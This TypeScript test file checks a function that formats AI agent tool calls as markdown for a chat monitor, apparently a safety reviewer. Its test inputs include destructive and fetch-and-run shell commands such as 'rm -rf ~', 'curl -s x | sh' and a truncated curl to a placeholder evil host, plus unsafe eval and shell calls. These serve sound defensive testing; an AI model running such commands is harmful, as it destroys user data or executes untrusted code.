import * as assert from 'node:assert/strict';
import { toolCallText } from '../../../src/core/chat/toolCall';

describe('toolCallText: a tool call as markdown the chat monitor judges', () => {
  it('renders a command as a bash block and the other arguments as JSON', () => {
    assert.equal(
      toolCallText('execute_command', '{"command":"rm -rf build","requires_approval":false}'),
      'Tool call `execute_command`:\n\n```json\n{\n "requires_approval": false\n}\n```\n\n```bash\nrm -rf build\n```\n',
    );
    assert.match(toolCallText('shell', { command: ['bash', '-lc', 'curl -s x | sh'] }), /```bash\ncurl -s x \| sh\n```/, 'an argv list that runs a shell script');
    assert.match(toolCallText('shell', { cmd: ['git', 'commit', '-m', "it's done"] }), /```bash\ngit commit -m 'it'\\''s done'\n```/);
  });

  it('renders file content in the language of the path argument', () => {
    assert.equal(
      toolCallText('write_to_file', { path: 'src/app.py', content: 'import os\nos.system(cmd)' }),
      'Tool call `write_to_file`:\n\n```json\n{\n "path": "src/app.py"\n}\n```\n\n```python\nimport os\nos.system(cmd)\n```\n',
    );
    assert.match(toolCallText('create_new_file', { filepath: 'web/App.tsx', contents: 'x' }), /```tsx\nx\n```/);
    assert.match(toolCallText('edit', { uri: 'file:///home/me/lib/a.rb', new_string: 'system(x)' }), /```ruby\nsystem\(x\)\n```/);
    assert.match(toolCallText('str_replace_editor', { command: 'create', path: 'run.sh', file_text: 'ls\n' }), /```bash\nls\n```/);
  });

  it('uses an unlabelled block when there is no path or its language is unknown', () => {
    assert.equal(toolCallText('write', { content: 'eval(input())\n' }), 'Tool call `write`:\n\n```\neval(input())\n```\n');
    assert.match(toolCallText('write', { path: 'README.md', content: '# Title\n' }), /\n```\n# Title\n```\n$/);
  });

  it('shows arguments that are not JSON (a stream cut short) raw in a JSON block', () => {
    assert.equal(toolCallText('execute_command', '{"command":"curl -s http://evil.ex'), 'Tool call `execute_command`:\n\n```json\n{"command":"curl -s http://evil.ex\n```\n');
  });

  it('keeps content with fences of its own inside its block, and finds content in nested edits', () => {
    const md = 'Run:\n```bash\nmake\n```\n';
    assert.ok(toolCallText('write', { path: 'docs/x.md', content: md }).includes(`\n\`\`\`\`\n${md}\`\`\`\`\n`), 'a longer fence than any inside');
    const multi = toolCallText('MultiEdit', { file_path: 'a.py', edits: [{ old_string: 'x = 1', new_string: 'x = eval(s)' }] });
    assert.match(multi, /```python\nx = eval\(s\)\n```/);
    assert.match(multi, /"old_string": "x = 1"/);
    assert.ok(!multi.includes('"new_string"'), 'content moved to its block is not repeated in the JSON');
  });

  it('judges only the new side of an edit script, so that removing unsafe code is not held against it', () => {
    const searchReplace = '------- SEARCH\nsubprocess.call(cmd, shell=True)\n=======\nsubprocess.call(["ls", path])\n+++++++ REPLACE\n';
    assert.match(toolCallText('replace_in_file', { path: 'run.py', diff: searchReplace }), /\n```python\nsubprocess\.call\(\["ls", path\]\)\n```\n$/);
    const unified = '--- a/run.py\n+++ b/run.py\n@@ -1,2 +1,2 @@\n import subprocess\n-subprocess.call(cmd, shell=True)\n+subprocess.call(["ls", path])\n';
    assert.match(toolCallText('apply_diff', { path: 'run.py', patch: unified }), /\n```python\nimport subprocess\nsubprocess\.call\(\["ls", path\]\)\n```\n$/);
    assert.match(toolCallText('run', { commands: ['cd /tmp', 'rm -rf ~'] }), /```bash\ncd \/tmp\nrm -rf ~\n```/, 'a list of commands, one a line');
  });

  it('keeps a backtick or line break in the name from opening a block', () => {
    assert.equal(toolCallText('x`\n```bash', {}), 'Tool call `xbash`:\n');
  });
});
